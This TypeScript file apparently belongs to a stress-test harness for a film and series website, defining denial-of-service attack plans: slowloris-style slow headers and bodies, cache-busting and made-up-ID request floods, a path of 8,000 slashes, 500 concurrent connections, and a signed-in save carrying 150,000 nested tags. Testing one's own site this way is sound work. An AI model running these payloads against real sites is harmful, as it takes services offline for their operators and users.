import type { Attack } from './attacker.ts';

/** Attackers use these loopback addresses, visitors and editors others; 127.0.0.1 is the operator's proxy. */
export const ATTACKERS = ['127.0.0.2', '127.0.0.3', '127.0.0.4', '127.0.0.5'];

export type AttackPlan = Pick<Attack, 'slow' | 'requests' | 'crowd'>;

export interface AttackTargets {
  /** Host name of the site. */
  host: string;
  origin: string;
  /** Paths of share cards that are not cached yet. */
  cards: readonly string[];
  /** Cookie of a signed-in writer. */
  writer: string;
}

const SLOW = { sockets: 200, everyMs: 2_000 };
const NESTED = '<em>'.repeat(150_000);

/** Slow attacks send a byte every 2 s; bursts have 45 requests a second by default. */
export function listAttacks({ host, origin, cards, writer }: AttackTargets): Record<string, AttackPlan> {
  const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
  const slowBody = (path: string, type: string, first: string) => ({
    slow: {
      ...SLOW,
      drip: ' ',
      head: `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nContent-Type: ${type}\r\nContent-Length: 1000\r\n\r\n${first}`,
    },
  });
  const slowHeaders = (path: string) => ({
    slow: { ...SLOW, drip: 'x', head: `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Slow: ` },
  });
  const burst = (paths: readonly string[], atOnce = 45, everyMs = 1_000) => ({
    requests: { texts: paths.map(get), atOnce, everyMs },
  });
  const save = (field: string) => {
    const body = `intent=save&saves=${JSON.stringify([{ field, value: NESTED, version: 0 }])}`;
    return `POST /admin/filmes/598 HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nCookie: ${writer}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`;
  };
  return {
    'slow-functions': slowBody('/functions/getHomeAll', 'application/json', '{'),
    'slow-login': slowBody('/admin/login', 'application/x-www-form-urlencoded', 'e'),
    'slow-pictures': slowHeaders('/img/poster/w342/x.webp'),
    'slow-home': slowHeaders('/'),
    'cache-busting': burst(['/?q=a{n}', '/sobre?ano={n}', '/filmes?x={n}']),
    'made-up-ids': burst(['/filme/x-77{n}', '/serie/x-77{n}', '/pessoa/x-77{n}']),
    'share-cards': burst(cards, 15),
    slashes: burst([`/x${'/'.repeat(8_000)}a/`]),
    // Half of the requests are for pages that no cache holds.
    connections: { crowd: { connections: 500, paths: ['/', '/buscar?q=nova{n}', '/filmes', '/buscar?q=outra{n}'] } },
    'nested-tags': { requests: { texts: ['curiosities', 'overview'].map(save), atOnce: 1, everyMs: 500 } },
  };
}
